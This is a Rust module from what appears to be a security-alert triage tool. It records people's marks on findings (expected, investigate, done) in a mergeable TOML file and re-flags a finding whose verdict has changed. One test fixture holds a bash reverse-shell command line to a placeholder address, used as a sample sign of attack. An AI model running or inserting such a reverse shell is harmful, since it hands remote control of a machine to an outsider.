//! What a person made of findings: expected, to be investigated or done, each with a note.
//!
//! A review is a small text file, a finding a line, in the order of the findings' identifiers, so that two
//! people's reviews merge in git:
//!
//! ```toml
//! [review]
//! 1f3a5b7c9d0e = { mark = "expected", note = "Backup job.", rule = "Read sensitive file", fingerprint = "0a1b2c3d4e5f" }
//! ```
//!
//! A mark holds for a finding of that very identifier, and so for the verdict that the person saw. Where the
//! same thing (the fingerprint) is judged otherwise now, the report asks to look again instead: no mark covers
//! signs of an attack that came later.

mod file;

use std::collections::{BTreeMap, BTreeSet};

use serde::{Deserialize, Serialize};

use crate::insight::{Group, Insight};
use crate::knowledge::own::Problem;
use crate::limits;
use crate::redact::Redactor;

/// What a finding was marked as.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Mark {
    /// It is known, and belongs there.
    Expected,
    /// Somebody is to look into it.
    Investigate,
    /// It was looked into, and what had to be done is done.
    Done,
}

impl Mark {
    /// All of them.
    pub const ALL: [Self; 3] = [Self::Expected, Self::Investigate, Self::Done];

    /// As files spell it.
    pub fn name(self) -> &'static str {
        match self {
            Self::Expected => "expected",
            Self::Investigate => "investigate",
            Self::Done => "done",
        }
    }

    /// As sentences name it: "marked …".
    pub fn words(self) -> &'static str {
        match self {
            Self::Expected => "expected",
            Self::Investigate => "to be investigated",
            Self::Done => "done",
        }
    }

    fn from_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|mark| mark.name() == name)
    }
}

/// A mark with its note.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Opinion {
    /// The mark.
    pub mark: Mark,
    /// The note, at most [`limits::NOTE_CHARACTERS`]; may be empty.
    pub note: String,
}

/// An opinion, and what it was about.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Entry {
    opinion: Opinion,
    /// The finding's rule, for whoever reads the file.
    rule: String,
    /// The finding's fingerprint, by which it is known when it is judged otherwise; may be empty.
    fingerprint: String,
}

/// How a finding stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Standing<'a> {
    /// What was made of it.
    pub opinion: &'a Opinion,
    /// Whether that was this finding with this verdict; otherwise it was the same thing, as a finding that is
    /// not in this set, when it was judged otherwise.
    pub is_current: bool,
}

/// A file as the report names it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReviewFile {
    /// Its name.
    pub name: String,
    /// Marks in use.
    pub marks: u64,
    /// What is wrong; what has something wrong is not used.
    pub problems: Vec<Problem>,
}

/// Everything that was made of findings; of two marks of one finding the later one counts.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Review {
    /// In the order in which they were read.
    pub files: Vec<ReviewFile>,
    /// By the finding's identifier.
    entries: BTreeMap<String, Entry>,
}

impl Review {
    /// Reads a further file. What is longer than [`limits::REVIEW_BYTES`] is not read.
    pub fn take(&mut self, name: &str, bytes: &[u8], size: u64) {
        let read = file::read(bytes, size);
        let marks = read.entries.len() as u64;
        self.entries.extend(read.entries);
        self.files.push(ReviewFile { name: name.to_owned(), marks, problems: read.problems });
    }

    /// Takes in the text of a review that was kept; what this one has already stays. What is wrong in it is
    /// left out.
    pub fn remember(&mut self, text: &str) {
        for (id, entry) in file::read(text.as_bytes(), text.len() as u64).entries {
            self.entries.entry(id).or_insert(entry);
        }
    }

    /// Marks a finding, or no longer. False where that cannot be: it is no finding, or there would be more than
    /// a file may hold.
    pub fn set(&mut self, insight: &Insight, id: &str, opinion: Option<Opinion>) -> bool {
        let Some(Opinion { mark, note }) = opinion else {
            self.entries.remove(id);
            return true;
        };
        let Some(group) = insight.groups.iter().find(|group| group.id == id) else { return false };
        let opinion = Opinion { mark, note: cut(&note).to_owned() };
        let (rule, fingerprint) = (cut(&group.rule).to_owned(), group.fingerprint.clone());
        let before = self.entries.insert(id.to_owned(), Entry { opinion, rule, fingerprint });
        let fits = self.entries.len() <= limits::REVIEW_MARKS && self.text().len() <= limits::REVIEW_BYTES;
        if !fits {
            self.entries.remove(id);
            self.entries.extend(before.map(|before| (id.to_owned(), before)));
        }
        fits
    }

    /// The text of the file.
    pub fn text(&self) -> String {
        file::write(&self.entries)
    }

    /// Whether nothing is marked, by no file.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty() && self.files.is_empty()
    }

    /// What was made of a finding of this identifier.
    pub fn opinion(&self, id: &str) -> Option<&Opinion> {
        self.entries.get(id).map(|entry| &entry.opinion)
    }

    /// How each finding of a set stands, in its order.
    pub fn standings(&self, insight: &Insight) -> Vec<Option<Standing<'_>>> {
        if self.entries.is_empty() {
            return vec![None; insight.groups.len()];
        }
        let present: BTreeSet<&str> = insight.groups.iter().map(|group| group.id.as_str()).collect();
        let absent = self.entries.iter().filter(|(id, _)| !present.contains(id.as_str()));
        let earlier: BTreeMap<&str, &Opinion> =
            absent.map(|(_, entry)| (entry.fingerprint.as_str(), &entry.opinion)).collect();
        let standing = |group: &Group| match self.opinion(&group.id) {
            Some(opinion) => Some(Standing { opinion, is_current: true }),
            None => {
                earlier.get(group.fingerprint.as_str()).map(|opinion| Standing { opinion, is_current: false })
            }
        };
        insight.groups.iter().map(standing).collect()
    }

    /// How many findings of a set have each mark, in the order of [`Mark::ALL`], and how many marks are of
    /// findings that the set does not have.
    pub fn counts(&self, insight: &Insight) -> ([u64; 3], u64) {
        let (mut counts, mut present) = ([0; 3], 0);
        for opinion in insight.groups.iter().filter_map(|group| self.opinion(&group.id)) {
            present += 1;
            if let Some(count) = counts.get_mut(opinion.mark as usize) {
                *count += 1;
            }
        }
        (counts, (self.entries.len() as u64).saturating_sub(present))
    }

    /// Puts the notes and what is wrong in files through a redactor.
    pub fn redact(&mut self, redactor: &Redactor) {
        let notes = self.entries.values_mut().map(|entry| &mut entry.opinion.note);
        let problems = self.files.iter_mut().flat_map(|file| &mut file.problems);
        let said = problems.flat_map(|problem| [&mut problem.item, &mut problem.key, &mut problem.message]);
        for text in notes.chain(said) {
            *text = redactor.text(text).into_owned();
        }
    }
}

/// A note, as far as it is kept.
fn cut(note: &str) -> &str {
    let end = note.char_indices().nth(limits::NOTE_CHARACTERS).map_or(note.len(), |(at, _)| at);
    note.get(..end).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Options, Session};

    fn insight(lines: &str) -> Insight {
        let mut session = Session::new(Options::default());
        session.open("input");
        session.feed(lines.as_bytes());
        session.finish().report.insight
    }

    fn opinion(mark: Mark, note: &str) -> Opinion {
        Opinion { mark, note: note.to_owned() }
    }

    const QUIET: &str = r#"{"rule":"R","output_fields":{"proc.name":"x","proc.exepath":"/usr/bin/x"}}"#;
    /// The same thing under the same rule, with a sign of an attack that the first one has not.
    const GRAVE: &str = r#"{"rule":"R","output_fields":{"proc.name":"x","proc.exepath":"/usr/bin/x","proc.cmdline":"x -i >& /dev/tcp/203.0.113.7/4444 0>&1"}}"#;

    #[test]
    fn a_mark_holds_for_the_verdict_that_the_person_saw() {
        let (quiet, grave, both) = (insight(QUIET), insight(GRAVE), insight(&format!("{QUIET}\n{GRAVE}")));
        let (first, second) = (&quiet.groups[0], &grave.groups[0]);
        assert_ne!(first.id, second.id);
        assert_eq!(first.fingerprint, second.fingerprint);
        let mut review = Review::default();
        review.set(&quiet, &first.id, Some(opinion(Mark::Expected, "ours")));
        let stands = |insight, group: &Group| {
            let at = |insight: &Insight| insight.groups.iter().position(|one| one.id == group.id).unwrap();
            review.standings(insight)[at(insight)].map(|standing| standing.is_current)
        };
        assert_eq!(stands(&quiet, first), Some(true));
        assert_eq!(stands(&grave, second), Some(false), "judged otherwise: look again");
        assert_eq!(stands(&both, second), None, "the marked one is there, and this is another");
        assert_eq!(review.counts(&both), ([1, 0, 0], 0));
        assert_eq!(review.counts(&grave), ([0, 0, 0], 1));
    }

    #[test]
    fn a_file_wins_over_what_was_kept_and_the_last_word_over_both() {
        let insight = insight(QUIET);
        let id = insight.groups[0].id.as_str();
        let text = |mark: &str| format!("[review]\n{id} = {{ mark = \"{mark}\" }}\n");
        let mut review = Review::default();
        review.take("a.toml", text("done").as_bytes(), 0);
        review.remember(&text("expected"));
        assert_eq!(review.opinion(id).unwrap().mark, Mark::Done);
        let long = "n".repeat(limits::NOTE_CHARACTERS + 1);
        assert!(review.set(&insight, id, Some(opinion(Mark::Investigate, &long))));
        let last = review.opinion(id).unwrap();
        assert_eq!((last.mark, last.note.len()), (Mark::Investigate, limits::NOTE_CHARACTERS));
        assert!(review.set(&insight, id, None));
        assert!(!review.set(&insight, "000000000000", Some(opinion(Mark::Done, ""))));
        assert!(review.entries.is_empty(), "what is no finding cannot be marked");
    }
}
